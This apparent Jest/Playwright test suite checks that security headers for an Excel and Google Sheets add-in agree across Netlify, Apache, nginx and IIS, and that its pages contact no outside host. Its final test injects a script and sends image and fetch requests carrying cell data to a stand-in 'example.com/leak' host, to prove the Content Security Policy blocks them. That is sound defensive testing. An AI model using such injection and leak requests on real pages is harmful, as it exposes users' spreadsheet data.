// The site as an office serves it: the same headers by every kind of server, and pages that work under them in a real browser.
import { existsSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { dirname, join } from "node:path";
import { headersFor, serverFiles } from "../../tools/hosting";
import { OFFICE_JS } from "../../tools/manifest/code";
import { readManifest } from "../../tools/manifest/read";

const SITE = [
  "taskpane.html",
  "functions.js",
  "taskpane.css",
  "functions.json",
  "functions-en.json",
  "icons/icon-32.png",
];
const files = serverFiles("https://ucj.example.go.id/alat", SITE);
type Headers = Record<string, string>;

/** What each server would say with a file, read out of its own rules. */
const SERVERS: Record<string, (path: string) => Headers> = {
  "Netlify and Cloudflare (_headers)": (path) => {
    const said: Headers = {};
    for (const block of (files._headers as string).trim().split("\n\n")) {
      const [pattern = "", ...lines] = block.split("\n");
      const regex = new RegExp(`^${pattern.replace(/[.]/g, "\\.").replace("*", ".*")}$`);
      if (regex.test(`/alat/${path}`))
        for (const line of lines) {
          const [, name = "", value = ""] = /^ {2}([\w-]+): (.*)$/.exec(line) ?? [];
          said[name] = value;
        }
    }
    return said;
  },
  "Apache (.htaccess)": (path) => {
    const said: Headers = {};
    let here = true;
    for (const line of (files[".htaccess"] as string).split("\n")) {
      const match = /^<FilesMatch "(.*)">$/.exec(line);
      if (match) here = new RegExp(match[1] as string).test(path);
      else if (line === "</FilesMatch>") here = true;
      const [, name, value] = /^ *Header always set ([\w-]+) "(.*)"$/.exec(line) ?? [];
      if (here && name) said[name] = value as string;
    }
    return said;
  },
  nginx: (path) => {
    const text = files["nginx.conf"] as string;
    const inner = [...text.matchAll(/ {2}location ~ (\S+) \{\n([\s\S]*?)\n {2}\}/g)].find(([, regex]) =>
      new RegExp(regex as string).test(`/alat/${path}`),
    );
    const lines = inner ? (inner[2] as string) : text.replace(/ {2}location ~ [\s\S]*?\n {2}\}/g, "");
    return Object.fromEntries(
      [...lines.matchAll(/add_header ([\w-]+) "(.*)" always;/g)].map(([, name, value]) => [name, value]),
    );
  },
  "IIS (web.config)": (path) => {
    const { root } = readManifest(files["web.config"] as string);
    const headers = [...root.children].flatMap((part) => {
      const at = part.getAttribute("path");
      if (part.localName === "location" && at !== path && !path.startsWith(`${at}/`)) return [];
      const cache = part.querySelector("clientCache")?.getAttribute("cacheControlMode");
      const control = cache === "DisableCache" ? "no-cache" : cache === "NoControl" ? "" : undefined;
      return [
        ...[...part.querySelectorAll("customHeaders > add")].map((add) => [
          add.getAttribute("name"),
          add.getAttribute("value"),
        ]),
        ...(control === undefined ? [] : [["Cache-Control", control]]),
      ];
    });
    return Object.fromEntries(headers);
  },
};

describe.each(Object.entries(SERVERS))("%s", (_, says) => {
  test.each(SITE)("%s: as the table says", (path) => {
    const { "Content-Type": type, ...expected } = headersFor(path);
    const said = Object.fromEntries(Object.entries(says(path)).filter(([, value]) => value !== ""));
    expect(said).toEqual(expected);
    expect(type).toMatch(/^(text|application|image)\//);
  });
});

test("icons may be kept, and metadata may be read by Excel on the web", () => {
  expect(headersFor("icons/icon-32.png")).not.toHaveProperty("Cache-Control");
  expect(headersFor("functions.json")).toMatchObject({
    "Cache-Control": "no-cache",
    "Access-Control-Allow-Origin": "*",
  });
  expect(headersFor("taskpane.html")).not.toHaveProperty("Access-Control-Allow-Origin");
});

describe("in a browser, under these headers", () => {
  const executablePath = process.env.CHROMIUM_PATH ?? "";
  const withBrowser = existsSync(executablePath) ? test : test.skip;
  const office = dirname(require.resolve("@microsoft/office-js/dist/office.js"));
  const CDN = OFFICE_JS.slice(0, -"office.js".length);
  let server: Server;
  let address: string;
  beforeAll(async () => {
    server = createServer((request, response) => {
      const [, folder = "", path = ""] = /^\/(excel|sheets)\/([\w./-]*)/.exec(request.url ?? "") ?? [];
      const at = join("dist", folder, path);
      if (!existsSync(at)) return void response.writeHead(404).end();
      // Google serves the sidebar by its own rules; only the Excel site is under ours.
      const headers = folder === "excel" ? headersFor(path) : { "Content-Type": "text/html; charset=utf-8" };
      response.writeHead(200, headers).end(readFileSync(at));
    });
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => void server.close());

  async function visit(page: string): Promise<{ asked: string[]; complaints: string[]; text: string }> {
    const { chromium } = require("playwright-core") as typeof import("playwright-core");
    const browser = await chromium.launch({ executablePath, args: ["--no-sandbox"] });
    try {
      const tab = await browser.newPage();
      const asked: string[] = [];
      const complaints: string[] = [];
      tab.on("console", (message) => {
        if (message.type() === "error") complaints.push(message.text());
      });
      tab.on("pageerror", (error) => complaints.push(String(error)));
      await tab.route("**/*", (route) => {
        const url = route.request().url();
        if (!url.startsWith(address)) asked.push(url.split("?")[0] as string);
        if (!url.startsWith(CDN)) return url.startsWith(address) ? route.continue() : route.abort();
        return route.fulfill({
          path: join(office, (url.slice(CDN.length).split("?")[0] as string) || "office.js"),
        });
      });
      await tab.goto(`${address}/${page}`, { waitUntil: "networkidle" });
      return { asked, complaints, text: (await tab.textContent("body")) ?? "" };
    } finally {
      await browser.close();
    }
  }

  withBrowser("the pane runs, and asks nobody but Microsoft's office.js", async () => {
    const { asked, complaints, text } = await visit("excel/taskpane.html");
    expect(text).toMatch(/Perencana UCJ|UCJ Planner/);
    expect(complaints).toEqual([]);
    expect(asked).toContain(OFFICE_JS);
    expect(asked.filter((url) => !url.startsWith(CDN))).toEqual([]);
  });

  withBrowser("the help page asks nobody", async () => {
    const { asked, complaints, text } = await visit("excel/bantuan.html");
    expect([asked, complaints]).toEqual([[], []]);
    expect(text).toContain("UCJ_COVERAGE");
  });

  withBrowser("the Sheets sidebar asks nobody", async () => {
    const { asked, text } = await visit("sheets/sidebar.html");
    expect(asked).toEqual([]);
    expect(text).toMatch(/Perencana UCJ|UCJ Planner/);
  });

  withBrowser("a page that breaks the rules is stopped: the rules are real", async () => {
    const { chromium } = require("playwright-core") as typeof import("playwright-core");
    const browser = await chromium.launch({ executablePath, args: ["--no-sandbox"] });
    try {
      const tab = await browser.newPage();
      const stopped: string[] = [];
      tab.on("console", (message) => {
        if (/Content Security Policy/.test(message.text())) stopped.push(message.text());
      });
      await tab.goto(`${address}/excel/bantuan.html`);
      await tab.evaluate(() => {
        const script = document.createElement("script");
        script.textContent = "window.injected = true";
        document.body.append(script);
        const image = document.createElement("img");
        image.src = "https://example.com/leak.png?cells=140940";
        document.body.append(image);
        return fetch("https://example.com/leak").catch(() => null);
      });
      await tab.waitForTimeout(200);
      expect(await tab.evaluate(() => "injected" in window)).toBe(false);
      expect(stopped.filter((line) => /example\.com/.test(line)).length).toBeGreaterThanOrEqual(2);
    } finally {
      await browser.close();
    }
  });
});
